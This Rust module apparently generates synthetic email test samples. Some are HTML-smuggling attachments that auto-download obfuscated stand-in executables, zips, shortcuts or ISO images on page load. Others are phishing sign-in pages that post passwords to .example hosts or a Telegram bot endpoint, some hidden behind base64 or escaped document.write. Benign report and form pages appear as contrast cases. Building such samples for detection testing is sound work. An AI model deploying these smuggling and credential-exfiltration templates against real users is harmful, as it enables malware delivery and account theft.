//! Pages as files: those that build a file, and those that ask for something.

use crate::{
    dice::Dice,
    samples::{image, locked_zip, mail, picture, program, shortcut, zip},
};
use base64::{Engine, engine::general_purpose::STANDARD};

/// A file that nobody should get out of a page, with its name.
fn payload(dice: &mut Dice) -> (String, Vec<u8>) {
    let stem = dice.word();
    match dice.number(0..6) {
        0 | 1 => (format!("{stem}.exe"), program()),
        2 => (format!("{stem}.zip"), zip(&[(&*format!("{stem}.exe"), &program())])),
        3 => (format!("{stem}.zip"), locked_zip(&[("a.dat", b"x")], "1234", false)),
        4 => (
            format!("{stem}.lnk"),
            shortcut("cmd.exe", "/c start notes.txt", "", false),
        ),
        _ => (
            format!("{stem}.iso"),
            image(&[("run.js", b"new ActiveXObject(\"x\")")], true, false)[..45_056].to_vec(),
        ),
    }
}

/// The bytes as a script writes them, as an expression that gives an array of them.
fn written(dice: &mut Dice, bytes: &[u8]) -> String {
    let encoded = STANDARD.encode(bytes);
    let decode = |text: &str| format!("Uint8Array.from(atob({text}), c => c.charCodeAt(0))");
    match dice.number(0..6) {
        0 => decode(&format!("\"{encoded}\"")),
        1 => {
            let pieces: Vec<String> = encoded
                .as_bytes()
                .chunks(dice.number(40..400))
                .map(|piece| format!("'{}'", String::from_utf8_lossy(piece)))
                .collect();
            decode(&pieces.join(" + "))
        }
        2 => {
            let pieces: Vec<String> = encoded
                .as_bytes()
                .chunks(dice.number(20..90))
                .map(|piece| format!("\"{}\"", String::from_utf8_lossy(piece)))
                .collect();
            decode(&format!("[{}].join('')", pieces.join(", ")))
        }
        3 => decode(&format!(
            "\"{}\".split('').reverse().join('')",
            encoded.chars().rev().collect::<String>()
        )),
        4 => format!(
            "new Uint8Array([{}])",
            bytes.iter().map(u8::to_string).collect::<Vec<_>>().join(",")
        ),
        _ => format!(
            "Uint8Array.from(\"{}\".match(/../g), h => parseInt(h, 16))",
            hex::encode(bytes)
        ),
    }
}

/// Handing a blob to the reader.
fn saved(dice: &mut Dice, name: &str) -> String {
    match dice.number(0..3) {
        0 => format!(
            "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = '{name}'; document.body.appendChild(a); a.click();"
        ),
        1 => format!("window.navigator.msSaveOrOpenBlob(b, \"{name}\");"),
        _ => format!(
            "const l = document.createElement(\"a\"); l.href = window.URL.createObjectURL(b); l.setAttribute(\"download\", \"{name}\"); l.dispatchEvent(new MouseEvent(\"click\"));"
        ),
    }
}

pub(super) fn smuggling(dice: &mut Dice) -> Vec<u8> {
    let (name, bytes) = payload(dice);
    let stem = dice.word();
    if dice.number(0..6) == 0 {
        let page = format!(
            "<html><body><a download=\"{name}\" href=\"data:application/octet-stream;base64,{}\">Open</a></body></html>",
            STANDARD.encode(&bytes)
        );
        return mail(dice.sentence(), &[(&format!("{stem}.html"), page.as_bytes())]);
    }
    let script = format!(
        "var d = {}; var b = new Blob([d], {{type: 'application/octet-stream'}}); {}",
        written(dice, &bytes),
        saved(dice, &name)
    );
    let run = dice.pick(&[
        "window.onload = function() { @ };",
        "(function() { @ })();",
        "setTimeout(() => { @ }, 500);",
        "document.addEventListener('DOMContentLoaded', () => { @ });",
    ]);
    let script = run.replace('@', &script);
    let (file, page) = match dice.number(0..4) {
        0 => (
            format!("{stem}.svg"),
            format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"9\" height=\"9\"/><script><![CDATA[{script}]]></script></svg>"
            ),
        ),
        1 => (
            format!("{stem}.html"),
            format!(
                "<html><body><script>eval(atob('{}'))</script></body></html>",
                STANDARD.encode(&script)
            ),
        ),
        _ => (
            format!("{stem}.html"),
            format!(
                "<!DOCTYPE html><html><body><p>{}</p><script>{script}</script></body></html>",
                dice.sentence()
            ),
        ),
    };
    mail(dice.sentence(), &[(&file, page.as_bytes())])
}

pub(super) fn report(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let png = STANDARD.encode(picture(dice));
    let script = match dice.number(0..6) {
        0 => "document.getElementById('save').onclick = () => { const b = new Blob(['day,hours\\nMonday,7'], {type: 'text/csv'}); const a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'report.csv'; a.click(); };".to_string(),
        1 => format!("function save() {{ const d = Uint8Array.from(atob(\"{png}\"), c => c.charCodeAt(0)); const b = new Blob([d], {{type: 'image/png'}}); const a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'chart.png'; a.click(); }}"),
        2 => format!("const rows = [{}]; draw(rows);", (0..200).map(|at| (at % 90).to_string()).collect::<Vec<_>>().join(",")),
        3 => "const b = new Blob(['BEGIN:VCALENDAR\\nEND:VCALENDAR'], {type: 'text/calendar'}); document.querySelector('a').href = URL.createObjectURL(b);".to_string(),
        4 => "window.onload = () => { const zip = new JSZip(); zip.file('a.csv', rows); zip.generateAsync({type: 'blob'}).then(c => saveAs(c, 'report.zip')); };".to_string(),
        _ => "window.print();".to_string(),
    };
    let page = format!(
        "<!DOCTYPE html><html><head><title>Report</title></head><body><h1>Week</h1><p>{}</p><img src=\"data:image/png;base64,{png}\"><a id=save>Save</a><script>{script}</script></body></html>",
        dice.sentence()
    );
    mail(dice.sentence(), &[(&format!("{stem}.html"), page.as_bytes())])
}

pub(super) fn credentials(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let url = format!("https://{}.example/{}", dice.word(), dice.word());
    let field = dice.pick(&[
        "<input type=password name=p>",
        "<input name='pass' TYPE=\"Password\" placeholder='Password'>",
        "<input autocomplete=off type='password'/>",
    ]);
    let form = |action: &str, script: &str| {
        format!(
            "<!DOCTYPE html><html><body><h2>Sign in to read the document</h2><form method=post {action}><input type=email value=bob@firm.example>{field}<button>Next</button></form><script>{script}</script></body></html>"
        )
    };
    let page = match dice.number(0..8) {
        0 | 1 => form(&format!("action=\"{url}\""), ""),
        2 => form(
            "onsubmit='go()'",
            &format!("function go() {{ fetch('{url}', {{method: 'POST', body: new FormData(document.forms[0])}}); }}"),
        ),
        3 => form(
            "",
            &format!(
                "$('form').submit(function(e) {{ e.preventDefault(); $.ajax({{url: \"{url}\", type: 'POST', data: $(this).serialize()}}); }});"
            ),
        ),
        4 => form(
            "",
            &format!(
                "const u = atob('{}'); let x = new XMLHttpRequest(); x.open('POST', u); x.send(p.value);",
                STANDARD.encode(&url)
            ),
        ),
        5 => format!(
            "<html><body><script>document.write(atob('{}'));</script></body></html>",
            STANDARD.encode(form(&format!("action=\"{url}\""), ""))
        ),
        6 => {
            let escaped: String = form(&format!("action=\"{url}\""), "")
                .bytes()
                .map(|byte| format!("%{byte:02x}"))
                .collect();
            format!("<html><body><script>document.write(unescape('{escaped}'));</script></body></html>")
        }
        _ => form(
            "",
            "fetch('https://api.telegram.org/bot1:a/sendMessage', {method: 'POST', body: p.value});",
        ),
    };
    let name = dice.pick(&["htm", "html", "shtml", "xhtml"]);
    mail(dice.sentence(), &[(&format!("{stem}.{name}"), page.as_bytes())])
}

pub(super) fn form(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let body = match dice.number(0..7) {
        0 => "<form action=\"https://search.partner.example/\"><input name=q><button>Search</button></form>".to_string(),
        1 => "<form method=post action=\"https://survey.partner.example/answers\"><input type=email name=mail><textarea name=text></textarea><button>Send</button></form>".into(),
        2 => "<form action=\"https://portal.firm.example/in\" method=post><input name=user><input type=password name=p></form>".into(),
        3 => "<form action=\"http://intranet/in\" method=post><input type=password name=p></form>".into(),
        4 => format!("<input type=password id=p><button onclick=open_it()>Open</button><script>const sealed = '{}'; async function open_it() {{ const k = await crypto.subtle.importKey('raw', p.value, 'PBKDF2', false, ['deriveKey']); }}</script>", STANDARD.encode(dice.bytes(900))),
        5 => "<form onsubmit=\"add()\"><input type=number name=a><output></output></form><script>function add() { fetch('https://rates.partner.example/today').then(show); }</script>".into(),
        _ => "<form><input type=checkbox> Ropes <input type=checkbox> Cranes</form><a href=\"https://partner.example/login\">Sign in at the site</a>".into(),
    };
    let page = format!(
        "<!DOCTYPE html><html><body><h1>Form</h1><p>{}</p>{body}</body></html>",
        dice.sentence()
    );
    mail(dice.sentence(), &[(&format!("{stem}.html"), page.as_bytes())])
}
